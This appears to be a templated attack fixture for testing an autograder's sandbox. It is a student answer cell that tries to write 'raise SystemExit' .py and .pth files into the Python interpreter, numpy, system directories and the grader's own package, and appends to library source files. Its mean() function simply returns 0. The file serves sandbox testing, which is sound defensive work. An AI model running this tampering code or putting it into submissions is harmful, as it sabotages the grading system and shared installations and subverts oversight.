# /// attack
# tries = "writes into the interpreter, the libraries and the grader's own code"
# shows = "tried"
# ///

# %% answer s_mean
import os, sys, tempfile

import numpy

places = [os.path.dirname(numpy.__file__), os.path.dirname(os.__file__), sys.prefix, sys.prefix + "/bin", "{{PACKAGE}}"]
places += ["{{PACKAGE}}/autograder", "{{PACKAGE}}/autograder/engine", "/usr/lib", "/usr/local", "/etc", "/", "/bin"]
places += [os.path.dirname(os.path.dirname(numpy.__file__)), "{{HOME}}", "{{COURSE}}"]
for place in places:
    for name in ("{{LEFT}}.py", "{{LEFT}}.pth"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("raise SystemExit")
            print("{{REACHED}}", place)
        except OSError:
            pass
for module in (numpy, os, tempfile):
    try:
        with open(module.__file__, "a") as file:
            file.write("\n")
        print("{{REACHED}}", module)
    except OSError:
        pass
print("tried")


def mean(values):
    return 0
